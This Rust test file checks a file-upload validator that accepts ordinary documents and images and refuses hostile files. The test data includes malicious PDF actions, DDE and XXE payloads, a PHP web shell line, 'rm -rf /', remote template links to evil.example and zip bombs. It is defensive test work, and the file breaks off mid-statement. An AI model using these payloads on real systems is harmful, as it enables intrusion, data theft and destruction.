//! Test files like those that people send, and like those of people who mean
//! harm.

mod bounds;
mod files;
mod reported;

use domain::application::evidence::FileType::{Docx, Heic, Jpeg, Pdf, Png};
use domain::application::evidence::content::Refusal;
use domain::application::evidence::{FileType, LARGEST_FILE};

use super::judge;
use files::{
    CHART_RELATIONS, CONTENT_TYPES, PACKAGE, Part, SHEET_TYPE, SHEET_TYPES, docx, docx_of,
    docx_with_chart, heic, honest, joined, jpeg, object_stream, overlapping, packed as packed_part,
    pdf, pdf_packed, pdf_with_stream, png, sheet_of, stored, text, zip, zip64,
};

#[test]
fn what_people_send_is_taken_for_what_it_is() {
    let with_comment = joined(&jpeg(4_000, 3_000), b"trailer of a telephone");
    let files: [(Vec<u8>, FileType); 7] = [
        (pdf(""), Pdf),
        (pdf("/Encrypt 5 0 R"), Pdf),
        (jpeg(4_000, 3_000), Jpeg),
        (with_comment, Jpeg),
        (png(1_200, 800), Png),
        (heic(4_032), Heic),
        (docx(vec![stored("word/media/image1.png")]), Docx),
    ];
    for (content, file_type) in files {
        assert_eq!(judge(&content), Ok(file_type));
    }
}

#[test]
fn hostile_files_are_refused() {
    let bomb = vec![0; 50_000];
    let files: [(&str, Vec<u8>, Refusal); 36] = [
        ("nothing", Vec::new(), Refusal::Empty),
        (
            "more than the most",
            joined(
                &pdf(""),
                &vec![b'\n'; usize::try_from(LARGEST_FILE).unwrap()],
            ),
            Refusal::TooLarge,
        ),
        ("a Windows program", b"MZ\x90\0\x03".to_vec(), Refusal::Kind),
        (
            "a Linux program",
            b"\x7fELF\x02\x01".to_vec(),
            Refusal::Kind,
        ),
        (
            "a shell script",
            b"#!/bin/sh\nrm -rf /".to_vec(),
            Refusal::Kind,
        ),
        (
            "a web page",
            b"<!DOCTYPE html><script>1</script>".to_vec(),
            Refusal::Kind,
        ),
        (
            "an SVG with a script",
            b"<svg onload=\"alert(1)\"/>".to_vec(),
            Refusal::Kind,
        ),
        (
            "the EICAR test file",
            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR".to_vec(),
            Refusal::Kind,
        ),
        (
            "an old Word or encrypted file",
            b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec(),
            Refusal::Kind,
        ),
        ("a zip", zip(&[stored("readme.txt")]), Refusal::Kind),
        (
            "a zip of nothing",
            b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(),
            Refusal::Kind,
        ),
        (
            "a spreadsheet",
            zip(&[stored("[Content_Types].xml"), stored("xl/workbook.xml")]),
            Refusal::Kind,
        ),
        (
            "a film",
            b"\0\0\0\x18ftypisom\0\0\0\0isommp42".to_vec(),
            Refusal::Kind,
        ),
        (
            "a PDF that starts later",
            joined(b"MZ", &pdf("")),
            Refusal::Kind,
        ),
        (
            "half a PDF",
            b"%PDF-1.7\n1 0 obj".to_vec(),
            Refusal::Damaged,
        ),
        (
            "a PDF with JavaScript",
            pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
            Refusal::Active,
        ),
        (
            "a PDF with hidden JavaScript",
            pdf("/OpenAction << /S /J#61vaScript >>"),
            Refusal::Active,
        ),
        (
            "a PDF that starts a program",
            pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
            Refusal::Active,
        ),
        (
            "a PDF with a file in it",
            pdf("/Names << /EmbeddedFiles 3 0 R >>"),
            Refusal::Active,
        ),
        (
            "a PDF that is a zip",
            joined(
                &pdf(""),
                &[zip(&[stored("a")]), b"%%EOF\n".to_vec()].concat(),
            ),
            Refusal::Polyglot,
        ),
        (
            "half a photograph",
            jpeg(10, 10)[..20].to_vec(),
            Refusal::Damaged,
        ),
        (
            "a photograph in name alone",
            b"\xFF\xD8\xFF<?php system($_GET[0]);".to_vec(),
            Refusal::Damaged,
        ),
        (
            "a photograph with a zip behind it",
            joined(&jpeg(10, 10), &zip(&[stored("a.exe")])),
            Refusal::Polyglot,
        ),
        (
            "a photograph that is a PDF",
            joined(&jpeg(10, 10), &pdf("")),
            Refusal::Polyglot,
        ),
        (
            "a photograph of 4 thousand million pixels",
            jpeg(65_535, 65_535),
            Refusal::Bomb,
        ),
        (
            "an image with a file behind it",
            joined(&png(1, 1), b"MZ"),
            Refusal::Polyglot,
        ),
        (
            "an image of 4 thousand million pixels",
            png(65_535, 65_535),
            Refusal::Bomb,
        ),
        (
            "an image whose parts do not end",
            png(1, 1)[..40].to_vec(),
            Refusal::Damaged,
        ),
        (
            "a telephone's image that is a bomb",
            heic(1_000_000),
            Refusal::Bomb,
        ),
        (
            "a Word document with macros",
            docx(vec![stored("word/vbaProject.bin")]),
            Refusal::Active,
        ),
        (
            "a Word document with a program in it",
            docx(vec![stored("word/embeddings/oleObject1.bin")]),
            Refusal::Active,
        ),
        (
            "a Word document that leaves its folder",
            docx(vec![stored("../../evil.xml")]),
            Refusal::Active,
        ),
        (
            "a Word document with a password",
            docx(vec![Part("word/a.xml", b"abcdef", 6, 1, 0)]),
            Refusal::Locked,
        ),
        (
            "a zip bomb",
            docx(vec![Part("word/a.xml", &bomb, 51_000_000, 0, 8)]),
            Refusal::Bomb,
        ),
        (
            "a zip bomb of many parts",
            docx(vec![Part("word/a.xml", b"abcdef", u32::MAX, 0, 8)]),
            Refusal::Bomb,
        ),
        (
            "a zip bomb whose parts overlap",
            overlapping(),
            Refusal::Bomb,
        ),
    ];
    let refused = files
        .iter()
        .filter(|(what, content, why)| {
            let judged = judge(content);
            assert_eq!(judged, Err(*why), "{what}");
            judged.is_err()
        })
        .count();
    assert_eq!(refused, 36);
}

#[test]
fn a_part_named_twice_or_otherwise_than_in_the_directory_is_refused() {
    let twice = docx(vec![stored("word/Document.xml")]);
    assert_eq!(judge(&twice), Err(Refusal::Polyglot));
    let mut other = docx(vec![stored("word/a.xml")]);
    let place = other
        .windows(10)
        .position(|bytes| bytes == b"word/a.xml")
        .unwrap();
    other[place + 5] = b'b';
    assert_eq!(judge(&other), Err(Refusal::Polyglot));
    let prefixed = joined(b"PK\x03\x04", &docx(vec![]));
    assert_eq!(judge(&prefixed), Err(Refusal::Polyglot));
    let appended = joined(&docx(vec![]), b"more");
    assert_eq!(judge(&appended), Err(Refusal::Polyglot));
}

#[test]
fn a_pdf_that_does_something_by_itself_is_refused_wherever_it_hides_that() {
    let open = |action: &str| pdf(&format!("/OpenAction << /S /{action} >>"));
    let files = [
        ("script in an object stream", pdf_with_stream("<< /S /JavaScript /JS (1) >>")),
        ("a program in an object stream", pdf_with_stream("<< /S /Launch /F (cmd) >>")),
        ("a form that is sent", open("SubmitForm /F (https://evil.example)")),
        ("data that is fetched", open("ImportData /F (a.fdf)")),
        ("another file", open(r"GoToR /F (\\\\evil\\share\\a.pdf)")),
        ("a file within", open("GoToE /T << >>")),
        ("a website that opens by itself", open("URI /URI (https://evil.example)")),
        ("the same by a reference", joined(&pdf("/OpenAction 7 0 R"), b"7 0 obj << /S /URI /URI (https://evil.example) >> endobj\n%%EOF")),
        ("a script as a link", pdf("/A << /S /URI /URI (javascript:alert(1)) >>")),
        ("a file as a link", pdf("/A << /S /URI /URI (file:///C:/a.exe) >>")),
        ("a server's share as a link", pdf(r"/A << /S /URI /URI (\\\\evil\\share) >>")),
        ("a link by a reference", joined(&pdf("/A << /S /URI /URI 7 0 R >>"), b"7 0 obj (javascript:1) endobj\n%%EOF")),
        ("a hidden name", pdf("/OpenAction << /S /#4c#61unch >>")),
        ("the kind by a reference", joined(&pdf("/A << /S 7 0 R >>"), b"7 0 obj /JavaScript endobj\n%%EOF")),
        ("a film", pdf("/A << /S /Rendition >>")),
        ("a sound", pdf("/A << /S /Sound >>")),
        ("an action of a page", pdf("/AA << /O << /S /GoTo >> >>")),
        ("a chain of actions", pdf("/A << /S /GoTo /Next 9 0 R >>")),
        ("an attached file", pdf("/AF [<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>]")),
        ("rich media", pdf("/Annots [<< /Subtype /RichMedia >>]")),
        ("an XFA form", pdf("/AcroForm << /XFA 3 0 R >>")),
        ("printing", open("Named /N /Print")),
        ("a stream from elsewhere", joined(&pdf(""), b"7 0 obj << /F (https://evil.example) >> stream\nendstream\n%%EOF")),
        ("an older revision", joined(&open("JavaScript"), &pdf(""))),
        ("within another stream", joined(&pdf(""), b"7 0 obj << /Length 60 >> stream\n8 0 obj << /S /JavaScript >> endobj\nendstream\n%%EOF")),
    ];
    for (what, content) in files {
        assert_eq!(judge(&content), Err(Refusal::Active), "{what}");
    }
    let unreadable = joined(
        &pdf(""),
        b"7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >> stream\nxx\nendstream\n%%EOF",
    );
    assert_eq!(judge(&unreadable), Err(Refusal::Damaged));
    let bomb = object_stream("1 0 ", &" ".repeat(140_000_000));
    assert_eq!(judge(&bomb), Err(Refusal::Bomb));
    let deep = pdf(&"[".repeat(5_000_000));
    assert_eq!(judge(&deep), Err(Refusal::Damaged));
}

#[test]
fn a_word_document_that_brings_something_in_is_refused_whatever_its_parts_are_called() {
    let relation = |kind: &str, target: &str, mode: &str| {
        format!(
            r#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>"#
        )
    };
    for (kind, target, mode) in [
        (
            "attachedTemplate",
            "https://evil.example/a.dotm",
            "External",
        ),
        ("oleObject", "https://evil.example/a.html!", "External"),
        ("image", "https://evil.example/a.png", "External"),
        ("hyperlink", "file://evil/share", "External"),
        ("hyperlink", "javascript:alert(1)", "External"),
        ("hyperlink", "\\\\evil\\share", "External"),
        ("aFChunk", "a.htm", "Internal"),
        ("oleObject", "media/a.png", "Internal"),
        ("vbaProject", "media/a.png", "Internal"),
        ("subDocument", "a.docx", "External"),
        ("unheardOf", "a.xml", "Internal"),
        ("frame", "https://evil.example", "External"),
    ] {
        let relations = relation(kind, target, mode);
        let file = docx(vec![text("word/_rels/document.xml.rels", &relations)]);
        assert_eq!(judge(&file), Err(Refusal::Active), "{kind} {target}");
    }
    let field = |words: &str| {
        format!(
            "<w:p><w:fldChar w:fldCharType=\"begin\"/>{words}<w:fldChar w:fldCharType=\"end\"/></w:p>"
        )
    };
    for part in [
        field("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        field("<w:instrText>D</w:instrText><w:instrText>&#68;E cmd</w:instrText>"),
        field(&field("<w:instrText>QUOTE 68 68 69</w:instrText>")),
        "<w:fldSimple w:instr=\"dde cmd\"/>".to_owned(),
        "<w:fldSimple w:instr=\"INCLUDEPICTURE \\\\evil\\a\"/>".to_owned(),
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".to_owned(),
        "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'>]><a>&c;</a>".to_owned(),
        "<v:imagedata src=\"https://evil.example/a.png\"/>".to_owned(),
    ] {
        let file = docx(vec![text("word/a.xml", &part)]);
        assert_eq!(judge(&file), Err(Refusal::Active), "{part}");
    }
    let types = CONTENT_TYPES.replace("<Types>", "<Types><Override PartName=\"/word/a.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>");
    let renamed = zip(&[
        text("[Content_Types].xml", &types),
        text("_rels/.rels", PACKAGE),
        stored("word/document.xml"),
        stored("word/a.dat"),
    ]);
    assert_eq!(judge(&renamed), Err(Refusal::Active));
    let mut wrapped = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    wrapped.extend(b"E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0");
    assert_eq!(judge(&wrapped), Err(Refusal::Locked));
}

#[test]
fn a_document_whose_main_part_has_another_name_is_a_word_document() {
    let types = CONTENT_TYPES.replace("document.xml", "document2.xml");
    let package = PACKAGE.replace("document.xml", "document2.xml");
    let file = zip(&[
        text("[Content_Types].xml", &types),
        text("_rels/.rels", &package),
        stored("word/document2.xml"),
    ]);
    assert_eq!(judge(&file), Ok(Docx));
}

#[test]
fn an_image_of_more_pixels_than_a_camera_takes_is_refused() {
    assert_eq!(judge(&png(14_000, 14_000)), Err(Refusal::Bomb));
    assert_eq!(judge(&jpeg(12_000, 9_000)), Ok(Jpeg));
    let whole = png(1_200, 800);
    assert_eq!(judge(&joined(&whole, &whole[whole.len() / 2..])), Ok(Png));
    assert_eq!(judge(&joined(&whole, &[0; 16])), Ok(Png));
}

/// Judges files that are cut anywhere and have any byte changed, and expects no
/// panic: 100,000 cases.
#[test]
fn no_file_however_broken_stops_the_judge() {
    let whole = [
        pdf("/A /J#6"),
        jpeg(10, 10),
        png(10, 10),
        heic(10),
        docx(vec![stored("word/a.xml")]),
        overlapping(),
    ];
    let mut judged = 0_u32;
    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
    while judged < 100_000 {
        for file in &whole {
            // The generator of Marsaglia, "Xorshift RNGs", gives the same cases
            // every time.
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let random = |from: u32| usize::try_from(state >> from & 0xFFFF).unwrap();
            let mut broken =
                file[..file.len() - random(0) % file.len() * usize::from(state & 1 == 0)].to_vec();
            if !broken.is_empty() {
                let place = random(16) % broken.len();
                broken[place] = u8::try_from(state >> 32 & 0xFF).unwrap();
                let place = random(40) % broken.len();
                broken[place] ^= 0xFF;
            }
            let _ = judge(&broken);
            judged += 1;
        }
    }
}

/// The files of many programs, made by `tests-data/make_honest_files.py`.
#[test]
fn the_files_that_many_programs_write_are_taken() {
    let mut refused = Vec::new();
    let mut taken = 0;
    for (name, content) in honest() {
        let ending = name.rsplit('.').next().unwrap();
        match judge(&content) {
            Ok(file_type) if file_type.ending() == ending => taken += 1,
            other => refused.push(format!("{name} {other:?}")),
        }
    }
    assert!(refused.is_empty(), "{}", refused.join("\n"));
    assert!(taken >= 100, "{taken}");
}

/// Programs write rows of numbers so that they pack better (ISO 32000-1,
/// 7.4.4.4), and some do so with objects.
#[test]
fn objects_that_are_packed_by_a_predictor_are_read() {
    let harmless = "9 0 << /Type /Catalog /Title (a statement of account) >>";
    let hostile = "9 0 << /Type /Catalog /OpenAction << /S /JavaScript >> >>";
    for filter in 0..=4 {
        for (objects, expected) in [(harmless, Ok(Pdf)), (hostile, Err(Refusal::Active))] {
            let rows = predicted(objects.as_bytes(), filter, 5);
            let packed = miniz_oxide::deflate::compress_to_vec_zlib(&rows, 6);
            let head = |parms: &str| {
                let length = packed.len();
                let usual = "/N 1 /First 4 /Filter /FlateDecode";
                pdf_packed(&format!("{usual} /Length {length} {parms}"), &packed)
            };
            let parms = format!("<< /Predictor {} /Columns 5 >>", 10 + filter);
            let direct = head(&format!("/DecodeParms {parms}"));
            assert_eq!(judge(&direct), expected, "{filter}");
            let listed = head(&format!("/DecodeParms [ {parms} ]"));
            assert_eq!(judge(&listed), expected, "{filter}");
            let unknown = head("/DecodeParms << /Predictor 2 /Columns 5 >>");
            assert_eq!(judge(&unknown), Err(Refusal::Damaged));
        }
    }
    for parms in [
        "/Columns 0",
        "/Columns -5",
        "/Columns 99999999999",
        "/Colors 9999999999999 /Columns 9999999",
    ] {
        let packed = miniz_oxide::deflate::compress_to_vec_zlib(b"9 0 << >>", 6);
        let head =
            format!("/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 {parms} >>");
        assert_eq!(
            judge(&pdf_packed(&head, &packed)),
            Err(Refusal::Damaged),
            "{parms}"
        );
    }
}

/// Writes rows of a width as the filter of PNG does.
fn predicted(plain: &[u8], filter: u8, width: usize) -> Vec<u8> {
    let mut rows = Vec::new();
    for (row, bytes) in plain.chunks(width).enumerate() {
        rows.push(filter);
        for (column, byte) in bytes.iter().enumerate() {
            let at = |up: usize, left: usize| {
                let row = row.checked_sub(up)?;
                plain.get(row * width + column.checked_sub(left)?).copied()
            };
            let (left, up, corner) = (
                at(0, 1).unwrap_or(0),
                at(1, 0).unwrap_or(0),
                at(1, 1).unwrap_or(0),
            );
            let paeth = || {
                let slope = i32::from(left) + i32::from(up) - i32::from(corner);
                [left, up, corner]
                    .into_iter()
                    .min_by_key(|near| (slope - i32::from(*near)).abs())
                    .unwrap()
            };
            let guess = match filter {
                1 => left,
                2 => up,
                3 => left.midpoint(up),
                4 => paeth(),
                _ => 0,
            };
            rows.push(byte.wrapping_sub(guess));
        }
    }
    rows
}

#[test]
fn what_programs_read_in_two_ways_is_judged_in_both() {
    let script = "<< /S /JavaScript /JS (1) >>";
    let later = |object: &str| joined(&pdf("/OpenAction 7 0 R"), object.as_bytes());
    let ends = "endobj\n%%EOF";
    let files = [
        (
            "a word that ends an object, inside of it",
            pdf(&format!("/A endobj /B {script}")),
        ),
        (
            "the same in a stream",
            pdf_with_stream(&format!("<< /A endobj /B {script} >>")),
        ),
        (
            "a reference without a blank",
            joined(
                &pdf("/A << /S /URI /URI 7 0R >>"),
                b"7 0 obj (javascript:1) endobj\n%%EOF",
            ),
        ),
        (
            "a reference to a reference",
            later(&format!(
                "7 0 obj 8 0 R {ends}\n8 0 obj << /S /URI /URI (https://evil.example) >> {ends}"
            )),
        ),
        (
            "a number behind a comment",
            later(&format!(
                "7 %\n0 obj << /S /URI /URI (https://evil.example) >> {ends}"
            )),
        ),
        (
            "a kind by a reference",
            joined(
                &pdf("/OpenAction << /S 7 0 R /URI (https://evil.example) >>"),
                format!("7 0 obj /URI {ends}").as_bytes(),
            ),
        ),
        (
            "two kinds",
            pdf("/OpenAction << /S /URI /S /GoTo /URI (https://evil.example) >>"),
        ),
        ("a name by a reference", pdf("/A << /S /Named /N 7 0 R >>")),
        (
            "two names",
            pdf("/A << /S /Named /N /Print /N /NextPage >>"),
        ),
        (
            "a page of another file",
            pdf("/Ref << /F (https://evil.example/a.pdf) /Page 0 >>"),
        ),
        (
            "a file under a name of its own",
            pdf("/AF [<< /EF << /Unix 3 0 R >> >>]"),
        ),
        (
            "a program beside the document",
            pdf("/A << /S /URI /URI (../../Windows/System32/calc.exe) >>"),
        ),
        (
            "a scheme with a dot",
            pdf("/A << /S /URI /URI (com.evil.app:run) >>"),
        ),
    ];
    for (what, content) in files {
        assert_eq!(judge(&content), Err(Refusal::Active), "{what}");
    }
    let hidden = "9 0 << /A (endstream) /B << /S /JavaScript >> >>";
    let unreadable = [
        (
            "a stream whose end is elsewhere",
            pdf_packed("/N 1 /First 4 /Length 8 0 R", hidden.as_bytes()),
        ),
        (
            "objects behind the end",
            pdf_packed("/N 1 /First 400 /Length 8", b"9 0 << >>"),
        ),
        (
            "two numbers of objects",
            pdf_packed("/N 0 /N 1 /First 4", hidden.as_bytes()),
        ),
        (
            "two lengths",
            pdf_packed("/N 1 /First 4 /Length 9 /Length 20", hidden.as_bytes()),
        ),
    ];
    for (what, content) in unreadable {
        assert_eq!(judge(&content), Err(Refusal::Damaged), "{what}");
    }
}

/// A file that says that it is encrypted, and is not, or not with that key.
#[test]
fn an_encryption_that_is_not_there_hides_nothing() {
    let (_, locked) = honest()
        .find(|(name, _)| name == "mutool-owner.pdf")
        .unwrap();
    let from = locked
        .windows(6)
        .rposition(|window| window == b"<</Siz")
        .unwrap();
    let to = locked
        .windows(9)
        .rposition(|window| window == b"startxref")
        .unwrap();
    let trailer = [b"trailer ", &locked[from..to], b"startxref 9\n%%EOF\n"].concat();
    for link in [
        "file://evil/share",
        r"\\\\evil\\share",
        "javascript:alert('\u{e9}')",
    ] {
        let plain = pdf(&format!("/A << /S /URI /URI ({link}) >>"));
        assert_eq!(
            judge(&joined(&plain, &trailer)),
            Err(Refusal::Active),
            "{link}"
        );
    }
    // Two keys: one for the judge, one for the program that opens the file.
    let other = String::from_utf8_lossy(&trailer).replace("/P -4", "/P -4 /Length 128");
    let other = other.replace("/U<55", "/U<56");
    let two = [locked.as_slice(), other.as_bytes()].concat();
    assert_eq!(judge(&two), Err(Refusal::Locked));
}

/// Forms of councils and of the government have such buttons.
#[test]
fn a_form_whose_buttons_print_empty_it_or_turn_its_pages_is_taken_and_one_that_sends_is_not() {
    let button = |action: &str| {
        pdf(&format!(
            "/AcroForm << /Fields [<< /FT /Btn /Ff 65536 /Subtype /Widget /T (b) /A << {action} >> >>] >>"
        ))
    };
    for action in [
        "/S /ResetForm",
        "/Type /Action /S /ResetForm /Fields [3 0 R] /Flags 1",
        "/S /Named /N /Print",
        "/S /Named /N /NextPage",
        "/S /Named /N /GoBack",
    ] {
        assert_eq!(judge(&button(action)), Ok(Pdf), "{action}");
        let stream = pdf_with_stream(&format!("<< /A << {action} >> >>"));
        assert_eq!(judge(&stream), Ok(Pdf), "{action}");
        // Nothing happens without a press, or after another action.
        let opens = pdf(&format!("/OpenAction << {action} >>"));
        assert_eq!(judge(&opens), Err(Refusal::Active), "{action}");
        let opened = format!("9 0 obj << {action} >> endobj\n%%EOF");
        let opens = joined(&pdf("/OpenAction 9 0 R"), opened.as_bytes());
        assert_eq!(judge(&opens), Err(Refusal::Active), "{action}");
        let chain = button(&format!("{action} /Next 9 0 R"));
        assert_eq!(judge(&chain), Err(Refusal::Active), "{action}");
        let page = pdf(&format!("/AA << /O << {action} >> >>"));
        assert_eq!(judge(&page), Err(Refusal::Active), "{action}");
    }
    for action in [
        "/S /SubmitForm /F (https://evil.example)",
        "/S /SubmitForm /F (mailto:evil@evil.example)",
        "/S /ResetForm /S /SubmitForm",
        "/S /ResetForm /S /JavaScript /JS (1)",
        "/S /ImportData /F (a.fdf)",
        "/S /Hide /T (a)",
        "/S /Named /N /SaveAs",
        "/S /Named /N /Print /N /Quit",
    ] {
        assert_eq!(judge(&button(action)), Err(Refusal::Active), "{action}");
    }
}

#[test]
fn a_word_document_with_charts_is_taken_with_the_sheets_of_their_numbers() {
    let sums = "<worksheet><c><f>SUM(B2:B5)</f></c><c><f>Table1[Amount]</f></c></worksheet>";
    let sheet = sheet_of(&[("xl/worksheets/sheet1.xml", sums)]);
    assert_eq!(judge(&docx_with_chart(&sheet, "")), Ok(Docx));
    // LibreOffice names the type of each part.
    let named = SHEET_TYPE.replace("Default", "Override").replace(
        "Extension=\"xlsx\"",
        "PartName=\"/word/embeddings/Microsoft_Excel_Sheet1.xlsx\"",
    );
    assert_eq!(judge(&docx_with_chart(&sheet, &named)), Ok(Docx));
}

#[test]
fn a_sheet_in_a_word_document_that_fetches_or_brings_along_something_is_refused() {
    let formula = |sum: &str| format!("<worksheet><c><f>{sum}</f></c></worksheet>");
    let relation = |kind: &str, mode: &str| {
        format!(
            r#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://evil.example/a" TargetMode="{mode}"/></Relationships>"#
        )
    };
    for (name, part) in [
        ("xl/worksheets/sheet1.xml", formula("cmd|'/c calc'!A0")),
        (
            "xl/worksheets/sheet1.xml",
            formula("c&#109;d&#124;'/c calc'!A0"),
        ),
        (
            "xl/worksheets/sheet1.xml",
            formula("WEBSERVICE(\"https://evil.example\")"),
        ),
        ("xl/worksheets/sheet1.xml", formula("_xlfn.web service(A1)")),
        (
            "xl/workbook.xml",
            "<workbook><definedName>cmd|'/c calc'!A0</definedName></workbook>".to_owned(),
        ),
        (
            "xl/workbook.xml",
            "<workbook><externalReference id=\"a\"/></workbook>".to_owned(),
        ),
        (
            "xl/a.xml",
            "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>".to_owned(),
        ),
        (
            "xl/a.xml",
            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".to_owned(),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            relation("externalLinkPath", "External"),
        ),
        ("xl/_rels/workbook.xml.rels", relation("image", "External")),
        (
            "xl/_rels/workbook.xml.rels",
            relation("connections", "Internal"),
        ),
        ("xl/vbaProject.bin", "a".to_owned()),
        ("xl/embeddings/oleObject1.bin", "a".to_owned()),
        ("word/embeddings/sheet.xlsx", "a".to_owned()),
    ] {
        let sheet = sheet_of(&[(name, &part)]);
        let file = docx_with_chart(&sheet, "");
        assert_eq!(judge(&file), Err(Refusal::Active), "{name} {part}");
    }
    let macros = SHEET_TYPES.replace(
        "spreadsheetml.sheet.main",
        "ms-excel.sheet.macroEnabled.main",
    );
    let sheet = sheet_of(&[("[Content_Types].xml", &macros)]);
    assert!(judge(&docx_with_chart(&sheet, "")).is_err());
    // What is called a sheet has to be one.
    for content in [&b"MZ"[..], b"", &zip(&[stored("a.xml")]), &docx(vec![])] {
        assert!(judge(&docx_with_chart(content, "")).is_err());
    }
    // A sheet is there for a chart alone, under its own name.
    let sheet = sheet_of(&[]);
    let size = u32::try_from(sheet.len()).unwrap();
    let elsewhere = Part("word/media/a.xlsx", &sheet, size, 0, 0);
    let types = CONTENT_TYPES.replace("<Types>", &format!("<Types>{SHEET_TYPE}"));
    let file = zip(&[
        text("[Content_Types].xml", &types),
        text("_rels/.rels", PACKAGE),
        stored("word/document.xml"),
        elsewhere,
    ]);
    assert_eq!(judge(&file), Err(Refusal::Active));
    let hidden = SHEET_TYPE.replace("Default", "Override").replace(
        "Extension=\"xlsx\"",
        "PartName=\"/word/embeddings/%61.xlsx\"",
    );
    assert_eq!(
        judge(&docx_with_chart(&sheet, &hidden)),
        Err(Refusal::Active)
    );
    let relations = relation("package", "External");
    let file = docx_of(&[("word/charts/_rels/chart1.xml.rels", &relations)]);
    assert_eq!(judge(&file), Err(Refusal::Active));
    let relations = CHART_RELATIONS;
    let file = docx_of(&[("word/_rels/document.xml.rels", relations)]);
    assert_eq!(judge(&file), Err(Refusal::Active));
}

#[test]
fn a_bomb_of_sheets_in_a_word_document_is_refused() {
    let big = "a".repeat(11 * 1024 * 1024);
    let sheet = sheet_of(&[("xl/a.txt", &big)]);
    let packed = miniz_oxide::deflate::compress_to_vec(&sheet, 1);
    let one = |name: &'static str| packed_part(name, &packed, sheet.len());
    let types = CONTENT_TYPES.replace("<Types>", &format!("<Types>{SHEET_TYPE}"));
    let file = zip(&[
        text("[Content_Types].xml", &types),
        text("_rels/.rels", PACKAGE),
        stored("word/document.xml"),
        one("word/embeddings/a.xlsx"),
        one("word/embeddings/b.xlsx"),
    ]);
    assert_eq!(judge(&file), Err(Refusal::Bomb));
}

/// Programs that write as they go, and cannot know how long a file becomes, make a
/// zip64 of it.
#[test]
fn a_word_document_in_a_zip64_is_taken_and_one_that_says_two_things_is_not() {
    let narrow = docx(vec![stored("word/a.xml")]);
    assert_eq!(judge(&zip64(&narrow, |_| {})), Ok(Docx));
    let places = [
        ("the place of the directory", 48, 1),
        ("the length of the directory", 40, 1),
        ("the count", 32, 1),
        ("the length of the record", 4, 1),
    ];
    for (what, at, more) in places {
        let other = zip64(&narrow, |record| record[at] = record[at].wrapping_add(more));
        assert!(judge(&other).is_err(), "{what}");
    }
    // The narrow record says something else.
    let mut two = zip64(&narrow, |_| {});
    let end = two.len() - 22;
    two[end + 10..end + 12].copy_from_slice(&1_u16.to_le_bytes());
    assert!(judge(&two).is_err());
    // A size that stands nowhere.
    let bomb = docx(vec![Part("word/a.xml", b"abcdef", u32::MAX, 0, 8)]);
    assert_eq!(judge(&zip64(&bomb, |_| {})), Err(Refusal::Bomb));
    let hostile = docx_of(&[("word/a.xml", "<w:fldSimple w:instr=\"DDE cmd\"/>")]);
    assert_eq!(judge(&zip64(&hostile, |_| {})), Err(Refusal::Active));
}

#[test]
fn links_that_people_have_in_their_documents_are_taken() {
    for link in [
        "https://bank.example/Launch?a=b:c",
        "HTTP://bank.example",
        "www.bank.example:8080/a",
        "mailto:jo@mail.example",
        "tel:+441134960100",
        "sms:+441134960100",
        "x-apple-data-detectors://0",
        "about:blank",
        "#page=2",
        "terms.html",
        "",
    ] {
        let file = pdf(&format!("/A << /S /URI /URI ({link}) >>"));
        assert_eq!(judge(&file), Ok(Pdf), "{link}");
    }
}

/// Word notes by itself from which template a letter was begun. It is a file of
/// the computer on which the letter is opened, or it is not there.
#[test]
fn a_template_of_the_readers_own_computer_is_harmless_and_a_servers_is_not() {
    let with = |target: &str| {
        let kind =
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
        let relations = format!(
            r#"<Relationships><Relationship Id="a" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
        );
        judge(&docx_of(&[("word/_rels/settings.xml.rels", &relations)]))
    };
    for target in [
        "Normal.dotm",
        "Normal",
        r"file:///C:\Users\jo\AppData\Roaming\Microsoft\Templates\Letter.dotx",
        "file:///C:/Users/jo%20smith/Templates/CV%20(1).dotx",
        r"C:\Program Files\Microsoft Office\Templates\1033\Letter.dotx",
        "file:///Users/jo/Library/Group%20Containers/UBF8T346G9.Office/Normal.dotm",
        "file://localhost/Users/jo/Normal.dotm",
    ] {
        assert_eq!(with(target), Ok(Docx), "{target}");
    }
    for target in [
        "https://evil.example/a.dotm",
        r"\\evil\share\a.dotm",
        "//evil/share/a.dotm",
        "file://evil/share/a.dotm",
        "file:////evil/share/a.dotm",
        r"file:///\\evil\share\a.dotm",
        "file:///%5C%5Cevil%5Cshare%5Ca.dotm",
        "file:///%255C%255Cevil%255Cshare%255Ca.dotm",
        r"file:///\\?\UNC\evil\share\a.dotm",
        "file:///?/UNC/evil/share/a.dotm",
        r"\\.\pipe\a",
        r"C:\\evil\a.dotm",
        "ftp:a.dotm",
        "mhtml:https://evil.example/a.dotm",
        "",
    ] {
        assert_eq!(with(target), Err(Refusal::Active), "{target}");
    }
}

#[test]
fn a_field_a_part_or_a_type_that_is_written_in_another_way_is_found() {
    let field = |words: &str| {
        format!(
            "<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText>{words}</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:p>"
        )
    };
    let nested =
